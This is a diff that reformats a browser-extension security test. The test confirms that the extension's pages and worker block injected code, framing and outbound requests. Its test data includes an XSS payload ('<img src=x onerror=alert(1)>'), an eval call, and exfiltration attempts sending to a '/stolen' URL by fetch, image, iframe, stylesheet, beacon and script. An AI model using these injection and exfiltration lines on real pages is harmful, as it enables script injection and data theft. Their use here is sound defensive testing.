@@ -16,7 +16,9 @@ async function withRefusals(page: Page, act: () => Promise<unknown>): Promise<st
   return page.evaluate(() => (window as any).refused);
 }
 
-test('our own pages and the worker run no foreign code, make no requests and cannot be framed', async ({ keyCompanion }) => {
+test('our own pages and the worker run no foreign code, make no requests and cannot be framed', async ({
+  keyCompanion,
+}) => {
   const answered: string[] = [];
   keyCompanion.context.on('response', (response) => answered.push(response.url()));
   for (const name of ['popup.html', 'options.html']) {
@@ -27,38 +29,71 @@ test('our own pages and the worker run no foreign code, make no requests and can
     await expect(page.getByRole('heading').first()).toBeVisible();
     expect(said, `${name} breaks none of its own rules`).toEqual([]);
 
-    const refused = await withRefusals(page, () => page.evaluate(async () => {
-      const attempt = async (act: () => unknown): Promise<void> => void (await Promise.resolve().then(act).catch(() => undefined));
-      const add = (tag: string, fields: object): unknown => document.body.append(Object.assign(document.createElement(tag), fields));
-      await attempt(() => { document.body.innerHTML = '<img src=x onerror=alert(1)>'; });
-      await attempt(() => { (globalThis as any).trustedTypes.createPolicy('own', {}); });
-      await attempt(() => fetch('https://data.gov.sg/stolen?by=fetch'));
-      await attempt(() => add('img', { src: 'https://data.gov.sg/stolen?by=image' }));
-      await attempt(() => add('iframe', { src: 'https://data.gov.sg/stolen?by=frame' }));
-      await attempt(() => add('link', { rel: 'stylesheet', href: 'https://data.gov.sg/stolen?by=style' }));
-      await attempt(() => navigator.sendBeacon('https://data.gov.sg/stolen?by=beacon'));
-      // A script only tries once it is markup: its address is refused as a text already.
-      await attempt(() => add('script', { src: 'https://data.gov.sg/stolen.js' }));
-      // Debuggers may evaluate, and what they start; a task of its own is the page's.
-      await attempt(() => new Promise((_, reject) => setTimeout(() => {
-        try {
-          // oxlint-disable-next-line no-eval -- that it is refused is what is tested
-          reject((0, eval)('document.title = "taken"'));
-        } catch (error) {
-          reject(error);
-        }
-      })));
-    }));
-    for (const directive of ['require-trusted-types-for', 'trusted-types', 'connect-src', 'img-src', 'frame-src', 'style-src-elem']) expect(refused, name).toContain(directive);
+    const refused = await withRefusals(page, () =>
+      page.evaluate(async () => {
+        const attempt = async (act: () => unknown): Promise<void> =>
+          void (await Promise.resolve()
+            .then(act)
+            .catch(() => undefined));
+        const add = (tag: string, fields: object): unknown =>
+          document.body.append(Object.assign(document.createElement(tag), fields));
+        await attempt(() => {
+          document.body.innerHTML = '<img src=x onerror=alert(1)>';
+        });
+        await attempt(() => {
+          (globalThis as any).trustedTypes.createPolicy('own', {});
+        });
+        await attempt(() => fetch('https://data.gov.sg/stolen?by=fetch'));
+        await attempt(() => add('img', { src: 'https://data.gov.sg/stolen?by=image' }));
+        await attempt(() => add('iframe', { src: 'https://data.gov.sg/stolen?by=frame' }));
+        await attempt(() => add('link', { rel: 'stylesheet', href: 'https://data.gov.sg/stolen?by=style' }));
+        await attempt(() => navigator.sendBeacon('https://data.gov.sg/stolen?by=beacon'));
+        // A script only tries once it is markup: its address is refused as a text already.
+        await attempt(() => add('script', { src: 'https://data.gov.sg/stolen.js' }));
+        // Debuggers may evaluate, and what they start; a task of its own is the page's.
+        await attempt(
+          () =>
+            new Promise((_, reject) =>
+              setTimeout(() => {
+                try {
+                  // oxlint-disable-next-line no-eval -- that it is refused is what is tested
+                  reject((0, eval)('document.title = "taken"'));
+                } catch (error) {
+                  reject(error);
+                }
+              }),
+            ),
+        );
+      }),
+    );
+    for (const directive of [
+      'require-trusted-types-for',
+      'trusted-types',
+      'connect-src',
+      'img-src',
+      'frame-src',
+      'style-src-elem',
+    ])
+      expect(refused, name).toContain(directive);
     expect(await page.title()).not.toBe('taken');
     await expect(page.getByRole('heading').first()).toBeVisible();
     await page.close();
   }
   const worker = await keyCompanion.worker();
-  expect(await worker.evaluate(() => fetch('https://data.gov.sg/stolen?by=worker').then(() => 'sent', () => 'refused'))).toBe('refused');
+  expect(
+    await worker.evaluate(() =>
+      fetch('https://data.gov.sg/stolen?by=worker').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    ),
+  ).toBe('refused');
 
   const tab = await keyCompanion.openTab();
-  await tab.evaluate((url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })), `${keyCompanion.baseUrl}popup.html`);
+  await tab.evaluate(
+    (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
+    `${keyCompanion.baseUrl}popup.html`,
+  );
   await expect.poll(() => tab.frames().length).toBe(2);
   await expect.poll(() => tab.frames()[1]!.url()).not.toMatch(/^(about:blank)?$/);
   expect(tab.frames()[1]!.url()).not.toContain('popup.html');
